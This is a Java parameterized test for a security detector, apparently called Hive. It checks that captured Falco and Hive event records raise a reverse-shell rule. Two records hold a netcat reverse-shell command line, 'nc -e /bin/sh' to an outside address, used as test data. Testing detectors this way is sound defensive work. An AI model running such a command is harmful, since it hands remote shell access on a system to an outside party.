package io.hivesec.examples.testing;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.Alert;
import io.hivesec.detectors.source.EventFormat;
import io.hivesec.detectors.source.EventReader;
import io.hivesec.detectors.source.ReadCounts;
import io.hivesec.event.Event;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Records as a sensor wrote them, each with the rule that is to be found in it. */
final class CapturedRecordsTest {
    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            # format | rule | record
            FALCO | reverse-shell.command-line | {"source":"syscall","time":"2026-01-02T03:04:05Z","output_fields":{"evt.type":"execve","proc.pid":70,"proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.9 4444"}}
            FALCO |                            | {"source":"syscall","time":"2026-01-02T03:04:05Z","output_fields":{"evt.type":"execve","proc.pid":70,"proc.name":"nc","proc.cmdline":"nc -z 203.0.113.9 4444"}}
            HIVE  | reverse-shell.command-line | {"type":"process_started","time":"2026-01-02T03:04:05Z","process":{"pid":70,"executable":"/bin/nc","arguments":["nc","-e","/bin/sh","203.0.113.9","4444"]}}
            """)
    void record_raisesTheRule(EventFormat format, String rule, String record) throws IOException {
        List<Event> events = new ArrayList<>();
        ReadCounts counts = EventReader.of(format)
                .read(new ByteArrayInputStream(record.getBytes(StandardCharsets.UTF_8)), events::add);
        assertThat(counts.malformed()).as("what could not be read").isEmpty();
        assertThat(counts.skipped()).as("what Hive has no use for").isEmpty();

        List<Alert> alerts = new ArrayList<>();
        try (Hive hive = Hive.builder().plugins(getClass().getClassLoader()).build()) {
            events.forEach(event -> alerts.addAll(hive.inspect(event).alerts()));
        }
        assertThat(alerts).extracting(alert -> alert.rule().id()).isEqualTo(rule == null ? List.of() : List.of(rule));
    }
}
